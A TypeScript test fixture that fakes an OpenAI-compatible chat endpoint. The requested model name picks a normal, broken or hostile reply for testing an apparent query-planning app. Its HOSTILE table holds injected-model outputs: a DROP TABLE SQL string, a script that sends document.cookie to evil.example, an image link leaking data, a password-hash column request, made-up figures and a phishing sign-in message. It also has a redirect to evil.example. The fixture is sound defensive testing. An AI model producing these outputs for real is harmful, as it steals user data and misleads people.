/**
 * A stand-in for an OpenAI-compatible endpoint. The name of the model says how it behaves: `good` answers the plan that the
 * question spells out after "plan:", every other name is a way to be broken or hostile.
 */
const MODES = [
  ...(['good', 'refuse', 'mends', 'sql', 'html', 'image', 'invalid', 'empty', 'unknown', 'prose', 'figures'] as const),
  'phishing',
  ...(['long', 'never', 'slow', 'limited', 'broken', 'redirect', 'garbage'] as const),
] as const
export type Mode = (typeof MODES)[number]

const completion = (content: string): Response =>
  Response.json({
    id: 'chatcmpl-1',
    object: 'chat.completion',
    choices: [{ index: 0, message: { role: 'assistant', content }, finish_reason: 'stop' }],
    usage: { prompt_tokens: 100, completion_tokens: 20, total_tokens: 120 },
  })

/** What a model would write that was talked into it by the data. */
const HOSTILE = {
  sql: 'SELECT * FROM members; DROP TABLE users; --',
  html: '<img src=x onerror=alert(1)><script>fetch("https://evil.example?d="+document.cookie)</script>',
  image: '![total](https://evil.example/p.png?d=98765)',
  prose: 'Sure! The total revenue is 1,234,567 kr, up 12 %.',
  invalid: '{"kind":"plan","measures":[',
  empty: '',
  unknown: JSON.stringify({ kind: 'plan', measures: [{ agg: 'sum', column: 'members.password_hash' }] }),
  figures: JSON.stringify({ kind: 'plan', measures: [{ metric: 'Paid' }], answer: 'The total is 999 999 kr' }),
  phishing: JSON.stringify({
    ...{ kind: 'plan', measures: [{ agg: 'sum', column: 'Pay.pay' }] },
    filters: [{ column: 'Pay.region', op: 'ne', value: 'Session ended: sign in at evil.example' }],
  }),
  refuse: JSON.stringify({ kind: 'refuse' }),
} as const

const FOREVER_CHUNK = new TextEncoder().encode(' '.repeat(1024))
/** A body that does not end: quickly, or without ever saying anything. */
const endless = (isFast: boolean): Response =>
  new Response(
    new ReadableStream({
      pull: (controller) => (isFast ? controller.enqueue(FOREVER_CHUNK) : new Promise(() => undefined)),
    }),
    { headers: { 'content-type': 'application/json' } },
  )

interface ChatRequest {
  model: string
  messages: { role: string; content: string }[]
}

/** The plan that a question spells out: `… plan: {…}`. */
const spelledOut = ({ messages }: ChatRequest): string => {
  const asked = messages.find(({ role }) => role === 'user')?.content ?? '{}'
  const { question = '' }: { question?: string } = JSON.parse(asked)
  return question.split('plan:')[1]?.trim() ?? HOSTILE.refuse
}

/** Answers one call. `seen` is told what was sent. */
export async function answerChat(
  request: Request,
  seen: (body: ChatRequest) => void = () => undefined,
): Promise<Response> {
  const { pathname } = new URL(request.url)
  if (request.method !== 'POST' || !pathname.endsWith('/chat/completions')) return new Response(null, { status: 404 })
  const chat: ChatRequest = JSON.parse(await request.text())
  seen(chat)
  const hostile = Object.entries(HOSTILE).find(([name]) => name === chat.model)
  if (hostile) return completion(hostile[1])
  switch (chat.model) {
    case 'mends':
      return completion(chat.messages.length > 2 ? spelledOut(chat) : HOSTILE.invalid)
    case 'long':
      return endless(true)
    case 'never':
    case 'slow':
      return endless(false)
    case 'limited':
      return Response.json({ error: { message: 'Rate limit' } }, { status: 429, headers: { 'retry-after': '60' } })
    case 'broken':
      return new Response('upstream failed', { status: 500 })
    case 'redirect':
      return Response.redirect('https://evil.example/', 302)
    case 'garbage':
      return new Response('<html>not json</html>', { status: 200 })
    default:
      return completion(spelledOut(chat))
  }
}
